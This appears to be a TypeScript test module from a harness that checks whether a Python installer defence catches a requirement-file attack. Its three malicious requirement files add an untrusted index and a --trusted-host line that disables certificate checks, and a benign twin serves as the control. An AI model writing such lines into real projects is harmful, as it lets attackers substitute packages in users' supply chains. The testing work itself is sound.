// SPDX-License-Identifier: Apache-2.0
import { refused, type Attack, type Form } from './attack.ts';
import { HIGHER, uploadTo } from './two-indexes.ts';
import type { Stage } from './stage.ts';

const STRANGER = 'stranger.test';

/** A stranger answers for an index of its own, with a certificate that nobody vouches for. */
function openStranger(stage: Stage): string {
  const { world } = stage;
  world.showCertificate(STRANGER, world.authority.leaf({ names: [STRANGER], selfSigned: true }));
  uploadTo(stage, STRANGER, HIGHER);
  return `${world.origin(STRANGER)}/simple/`;
}

const form = (
  name: string,
  lines: (index: string) => Readonly<Record<string, string>>,
  where: string,
  shortened = false,
): Form => ({
  name,
  mount: async (stage) => {
    for (const [file, text] of Object.entries(lines(openStranger(stage)))) {
      await stage.write(file, text);
    }
  },
  ask: () => ['-r', 'requirements.txt'],
  expect: refused('E-BYPASS', 'WP-BYPASS-CONFIG', { says: () => [where, '--trusted-host'] }),
  // uv passes over the line; the index on its command line beats the file's.
  plain: { pip: 'installs', uv: shortened ? 'refuses' : 'installs' },
  defence: 'configuration',
  fallsFor: ['pip'],
  stop: async (stage) => {
    stage.honest();
    await stage.write('requirements.txt', 'good\n');
  },
});

export const D07: Attack = {
  id: 'D07',
  title: 'a requirement file makes the installer trust any certificate',
  forms: [
    form(
      'two lines of its own',
      (index) => ({
        'requirements.txt': `# what we need\n--index-url ${index}\n--trusted-host ${STRANGER}\ngood\n`,
      }),
      'requirements.txt:3',
    ),
    form(
      'in a file that it draws in',
      (index) => ({
        'requirements.txt': `-r base.txt\ngood\n`,
        'base.txt': `--index-url=${index} --trusted-host=${STRANGER}\n`,
      }),
      'base.txt:1',
    ),
    form(
      'shortened, over two lines',
      (index) => ({
        'requirements.txt': `-i ${index}\n--trusted \\\n  ${STRANGER}\ngood\n`,
      }),
      'requirements.txt:2',
      true,
    ),
  ],
  twins: [
    {
      name: 'an index in a requirement file, which can prove who it is',
      mount: async (stage) => {
        await stage.write('requirements.txt', `--index-url ${stage.world.index}\ngood\n`);
      },
      ask: () => ['-r', 'requirements.txt'],
    },
  ],
};
